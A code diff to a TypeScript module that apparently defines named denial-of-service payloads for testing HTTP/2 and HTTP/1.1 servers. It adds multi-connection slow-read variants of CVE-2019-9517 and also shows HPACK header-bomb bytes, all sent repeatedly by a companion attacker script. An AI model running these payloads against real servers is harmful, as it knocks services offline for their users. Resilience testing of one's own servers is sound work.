@@ -1,4 +1,4 @@
-/** Attacks on servers of HTTP/2, by name. Each is the bytes that one connection sends; attacker.ts sends them, as often as it can. */
+/** Attacks by name, most of them on HTTP/2. Each is the bytes that a connection sends; attacker.ts sends them, as often as it can. */
 import {
   CANCEL,
   CONTINUATION,
@@ -24,7 +24,11 @@ export interface Attack {
   readonly cve: string;
   /** What the peer does, and what it costs a server that is not prepared. */
   readonly summary: string;
-  /** What it sends once, after its SETTINGS. */
+  /** Connections at a time; 1 where it does not say. */
+  readonly connections?: number;
+  /** It speaks HTTP/1.1. */
+  readonly http1?: true;
+  /** What it sends once, in HTTP/2 after its SETTINGS. */
   readonly opening?: Buffer;
   /** What it sends again and again; `n` from 0 on. Without it, it only waits. */
   readonly round?: (n: number) => Buffer;
@@ -78,6 +82,13 @@ const PROVOCATIONS: readonly ((id: number) => Buffer)[] = [
 /** An entry that fills the dynamic table, and a head that refers to it as often as a frame has room. */
 const BOMB = Buffer.concat([GET, Buffer.from([0x40, 1, 0x61, 0x7f, 0xa1, 0x1e]), Buffer.alloc(4000, 0x62)]);
 const BOMBS = Buffer.concat([GET, Buffer.alloc(12_000, 0xbe)]);
+
+/** A hundred requests for a large response, with all windows open. */
+const UNREAD = Buffer.concat([
+  frame(SETTINGS, 0, 0, Buffer.concat([Buffer.of(0, INITIAL_WINDOW_SIZE), uint32(MAX_WINDOW)])),
+  frame(WINDOW_UPDATE, 0, 0, uint32(MAX_WINDOW - 65_535)),
+  ...Array.from({ length: 100 }, (_, n) => frame(HEADERS, WHOLE, stream(n), LARGE)),
+]);
 
 export const ATTACKS: readonly Attack[] = [
   {
@@ -220,11 +231,26 @@ export const ATTACKS: readonly Attack[] = [
     name: "slow-read",
     cve: "CVE-2019-9517",
     summary: "a hundred large responses with all windows open, and nothing is read",
-    opening: Buffer.concat([
-      frame(SETTINGS, 0, 0, Buffer.concat([Buffer.of(0, INITIAL_WINDOW_SIZE), uint32(MAX_WINDOW)])),
-      frame(WINDOW_UPDATE, 0, 0, uint32(MAX_WINDOW - 65_535)),
-      ...Array.from({ length: 100 }, (_, n) => frame(HEADERS, WHOLE, stream(n), LARGE)),
-    ]),
+    opening: UNREAD,
+    deaf: true,
+    ends: "",
+  },
+  {
+    name: "slow-readers",
+    cve: "CVE-2019-9517",
+    summary: "the same on many connections: thousands of large responses of which nothing is read",
+    connections: 20,
+    opening: UNREAD,
+    deaf: true,
+    ends: "",
+  },
+  {
+    name: "slow-readers-http1",
+    cve: "CWE-400",
+    summary: "large responses of HTTP/1.1 of which nothing is read, each on a connection",
+    connections: 500,
+    http1: true,
+    opening: Buffer.from("GET /large HTTP/1.1\r\nHost: a.example\r\n\r\n"),
     deaf: true,
     ends: "",
   },
